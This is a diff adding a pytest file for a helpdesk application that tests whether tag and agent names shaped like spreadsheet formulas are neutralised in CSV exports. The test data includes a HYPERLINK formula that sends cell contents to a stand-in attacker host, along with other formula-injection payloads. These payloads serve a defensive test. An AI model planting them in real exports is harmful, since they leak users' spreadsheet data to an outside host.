@@ -1,0 +1,69 @@
+"""The findings of the outside security review (issue 13, item 9), each reproduced: spreadsheet
+formulas in the CSV export, login throttling under concurrent requests, hidden requests shown to
+agents, dates at the ends of the calendar, security headers, and webhook bodies that are chunked
+or carry NaN."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from sqlalchemy import update
+
+from helpdesk.accounts.models import Agent, Role
+from helpdesk.extensions import db
+from tests.test_api import Client, token_for
+from tests.test_auth import signed_in
+from tests.test_metrics import FIRST, LAST, History
+
+RANGE = {"from": FIRST.isoformat(), "to": LAST.isoformat()}
+FORMULA = '=HYPERLINK("http://evil.example/?a="&A1,"x")'
+
+
+@pytest.fixture
+def history(client) -> History:
+    history = History(client)
+    history.build()
+    history.run_workers()
+    return history
+
+
+def export(client, table: str, **args) -> list[list[str]]:
+    response = client.get("/dashboard/export.csv", query_string={"table": table, **args})
+    assert response.status_code == 200, response.get_data(as_text=True)[:500]
+    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))
+
+
+# CSV formula injection --------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("name", [FORMULA, "+1+1", "-2+3", "@SUM(A1:A2)"])
+def test_a_tag_named_like_a_formula_is_exported_as_text(client, history, name):
+    """Any agent-role token can name a tag: the spreadsheet must show it, not run it."""
+    agents_api = Client(client, token_for(history.brand, Role.AGENT))
+    tagged = agents_api.post(f"/tickets/{history.ticket(1).id}/tags", json={"name": name})
+    assert tagged.status_code in (200, 201), tagged.get_data(as_text=True)
+    history.run_workers()
+    signed_in(client, history.manager)
+    labels = [line[0] for line in export(client, "tag", **RANGE)[1:]]
+    assert f"'{name}" in labels, labels
+    assert name not in labels
+
+
+@pytest.mark.parametrize("name", [FORMULA, "+Ada", "-Ada", "@cmd", "\tAda", "\r=1+1"])
+def test_an_agent_named_like_a_formula_is_exported_as_text(client, history, name):
+    db.session.execute(update(Agent).where(Agent.id == history.a.id).values(name=name))
+    db.session.commit()
+    signed_in(client, history.manager)
+    labels = [line[0] for line in export(client, "agent", **RANGE)[1:]]
+    assert f"'{name}" in labels, labels
+    assert name not in labels
+
+
+def test_ordinary_names_and_numbers_are_exported_unchanged(client, history):
+    signed_in(client, history.manager)
+    lines = export(client, "agent", **RANGE)
+    labels = [line[0] for line in lines[1:]]
+    assert "Ada Agent" in labels and "Ben Agent" in labels
+    assert all(not cell.startswith("'") for line in lines[1:] for cell in line[1:])
